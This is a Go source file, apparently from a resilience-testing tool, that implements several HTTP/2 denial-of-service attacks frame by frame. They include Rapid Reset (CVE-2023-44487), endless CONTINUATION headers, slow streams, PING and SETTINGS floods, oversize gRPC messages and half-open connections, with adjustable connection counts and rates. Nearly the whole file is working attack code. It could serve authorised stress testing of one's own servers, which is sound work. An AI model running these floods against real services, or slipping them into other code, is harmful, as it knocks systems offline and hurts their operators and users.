package hostile

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is a connection of HTTP/2 on which frames are written as no client of a library could.
type flood struct {
	*http2.Framer
	t      Target
	block  bytes.Buffer
	encode *hpack.Encoder
	next   uint32
}

// greet begins HTTP/2. What the server says is read and thrown away, so that it is not its writing that waits.
func greet(t Target, c net.Conn) (*flood, error) {
	f := &flood{Framer: http2.NewFramer(c, nil), t: t, next: 1}
	f.encode = hpack.NewEncoder(&f.block)
	go func() { _, _ = io.Copy(io.Discard, c) }() // until it is closed
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	return f, f.WriteSettings()
}

// headers begins a request, of which more is to come.
func (f *flood) headers(ended bool) (uint32, error) {
	id := f.next
	f.next += 2
	f.block.Reset()
	for _, h := range append([]string{":method: POST", ":scheme: http", ":authority: " + f.t.Addr, ":path: " + f.t.Path},
		f.t.Headers...) {
		at := 1 + strings.IndexByte(h[1:], ':')
		if err := f.encode.WriteField(hpack.HeaderField{
			Name:  strings.ToLower(h[:at]),
			Value: strings.TrimSpace(h[at+1:]),
		}); err != nil {
			return 0, err
		}
	}
	return id, f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.block.Bytes(), EndHeaders: ended})
}

// until repeats something that often a second until it fails or the context ends.
func until(ctx context.Context, perSecond int, do func() error) error {
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for {
		for range max(1, perSecond/100) {
			if err := do(); err != nil {
				return err
			}
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
}

func overHTTP2(name string, n int, do func(ctx context.Context, f *flood) error) Attack {
	return Attack{name, n, 20, func(ctx context.Context, t Target, c net.Conn) error {
		f, err := greet(t, c)
		if err != nil {
			return err
		}
		return do(ctx, f)
	}}
}

// SlowStreams opens 100 requests on each of n connections, and sends a byte of each body now and then.
func SlowStreams(n int) Attack {
	return overHTTP2("slow streams", n, func(ctx context.Context, f *flood) error {
		for range 100 {
			if _, err := f.headers(true); err != nil {
				return err
			}
		}
		tick := time.NewTicker(pause)
		defer tick.Stop()
		for {
			for id := uint32(1); id < 200; id += 2 {
				if err := f.WriteData(id, false, []byte("x")); err != nil {
					return err
				}
			}
			select {
			case <-ctx.Done():
				return nil
			case <-tick.C:
			}
		}
	})
}

// RapidReset begins requests and takes them back (CVE-2023-44487).
func RapidReset(n, perSecond int) Attack {
	return overHTTP2("rapid reset", n, func(ctx context.Context, f *flood) error {
		return until(ctx, perSecond, func() error {
			id, err := f.headers(true)
			if err != nil {
				return err
			}
			return f.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	})
}

// Continuation sends headers that never end (CVE-2024-24549 and its kin).
func Continuation(n int) Attack {
	fragment := bytes.Repeat([]byte{0}, 16<<10)
	return overHTTP2("CONTINUATION", n, func(ctx context.Context, f *flood) error {
		id, err := f.headers(false)
		if err != nil {
			return err
		}
		// Literal fields without an index, with names and values of 127 bytes.
		field := append([]byte{0, 0x7e}, bytes.Repeat([]byte("x"), 126)...)
		field = append(append(field, 0x7e), bytes.Repeat([]byte("y"), 126)...)
		n := copy(fragment, bytes.Repeat(field, len(fragment)/len(field)))
		return until(ctx, 100, func() error { return f.WriteContinuation(id, false, fragment[:n]) })
	})
}

// Pings asks for answers that cost the server more than the question.
func Pings(n, perSecond int) Attack {
	return overHTTP2("PING and SETTINGS", n, func(ctx context.Context, f *flood) error {
		return until(ctx, perSecond, func() error {
			if err := f.WritePing(false, [8]byte{}); err != nil {
				return err
			}
			return f.WriteSettings()
		})
	})
}

// Oversize announces a message of gRPC of 2 GB, and sends as much as it may.
func Oversize(n int) Attack {
	prefix := []byte{0, 0x7f, 0xff, 0xff, 0xff}
	return overHTTP2("oversize messages", n, func(ctx context.Context, f *flood) error {
		id, err := f.headers(true)
		if err != nil {
			return err
		}
		if err := f.WriteData(id, false, prefix); err != nil {
			return err
		}
		piece := make([]byte, 16<<10)
		for range 3 {
			if err := f.WriteData(id, false, piece); err != nil {
				return err
			}
		}
		return until(ctx, 1, func() error {
			time.Sleep(pause)
			return f.WriteData(id, false, []byte("x"))
		})
	})
}

// Silent begins HTTP/2 and says no more.
func Silent(n int) Attack {
	return Attack{"half-open HTTP/2", n, 500, func(_ context.Context, _ Target, c net.Conn) error {
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		_, err := io.Copy(io.Discard, c)
		return err
	}}
}
